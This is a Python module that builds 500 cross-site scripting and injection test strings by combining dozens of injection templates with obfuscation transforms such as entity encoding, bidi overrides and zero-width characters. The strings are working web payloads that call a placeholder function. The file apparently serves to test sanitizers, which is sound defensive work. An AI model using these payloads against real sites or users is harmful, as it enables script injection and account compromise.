"""Five hundred texts that try to become code: made here from ways in, what they would run, and disguises."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import product

COUNT = 500
CALL = "pwned()"

# Where %s stands the call is put.
WAYS_IN = (
    "<script>%s</script>",
    "<script src='data:text/javascript,%s'></script>",
    "<script type=module>%s</script>",
    "</script><script>%s</script>",
    "</title><script>%s</script>",
    "</textarea><script>%s</script>",
    "--><script>%s</script><!--",
    "]]><script>%s</script>",
    "<img src=x onerror=%s>",
    "<img src=x onerror='%s'//",
    '"><img src=x onerror="%s">',
    "'><img src=x onerror='%s'>",
    "`><img src=x onerror=%s>",
    "<image href=x onerror=%s>",
    "<svg onload=%s>",
    "<svg><script>%s</script></svg>",
    "<svg><animate onbegin=%s attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:%s'><text y=9>x</text></a></svg>",
    "<svg><style><img src=x onerror=%s></style></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='%s'/>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=%s>",
    "<math href='javascript:%s'>x</math>",
    "<body onload=%s>",
    "<body onpageshow=%s>",
    "<input autofocus onfocus=%s>",
    "<select autofocus onfocus=%s>",
    "<textarea autofocus onfocus=%s>",
    "<details open ontoggle=%s>x</details>",
    "<video src=x onerror=%s></video>",
    "<video><source onerror=%s></video>",
    "<audio src=x onerror=%s></audio>",
    "<marquee onstart=%s>x</marquee>",
    "<iframe srcdoc='<script>parent.%s</script>'></iframe>",
    "<iframe src='javascript:parent.%s'></iframe>",
    "<object data='javascript:%s'></object>",
    "<embed src='javascript:%s'>",
    "<a href='javascript:%s'>x</a>",
    "<a href='java\tscript:%s'>x</a>",
    "<form action='javascript:%s'><button>x</button></form>",
    "<button formaction='javascript:%s'>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:%s'>",
    "<base href='javascript:%s//'>",
    "<link rel=stylesheet href='data:text/css,*{}' onload=%s>",
    "<style onload=%s></style>",
    "<style>@import 'javascript:%s'</style>",
    "<div style='animation:x' onanimationstart=%s>x</div>",
    "<div onpointerover=%s style='position:fixed;inset:0'>x</div>",
    "<x contenteditable onblur=%s tabindex=1 autofocus>x</x>",
    "<template shadowrootmode=open><img src=x onerror=%s></template>",
    '<noscript><p title="</noscript><img src=x onerror=%s>">',
    "javascript:%s",
    "data:text/html,<script>%s</script>",
    "${%s}",
    "{{constructor.constructor('%s')()}}",
    "#{%s}",
    "<%%= %s %%>",
    "';%s;'",
    '";%s;"',
    "\\';%s;//",
    "`;%s;`",
    "(%s)",
    "constructor[%s]",
    "__proto__",
    "[x](javascript:%s)",
    '![x](x"onerror="%s)',
    "# <img src=x onerror=%s>",
    "| <img src=x onerror=%s> | x |",
    "- <img src=x onerror=%s>",
)

Disguise = Callable[[str], str]
DISGUISES: tuple[Disguise, ...] = (
    lambda text: text,
    str.swapcase,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;").replace("'", "&#x27;"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace(" ", "/"),
    lambda text: "\u202e" + text + "\u202c",
    lambda text: "\ufeff" + text.replace("=", "\u200b="),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: "<b>" + text + "</i>",
    lambda text: "\U0001f0cf" + text + "\u0301" * 8,
)


def payloads() -> tuple[str, ...]:
    """The texts, each once."""
    found = tuple(dict.fromkeys(_made()))[:COUNT]
    assert len(found) == COUNT
    return found


def _made() -> Iterator[str]:
    for disguise, way in product(DISGUISES, WAYS_IN):
        yield disguise(way % CALL if "%s" in way else way)
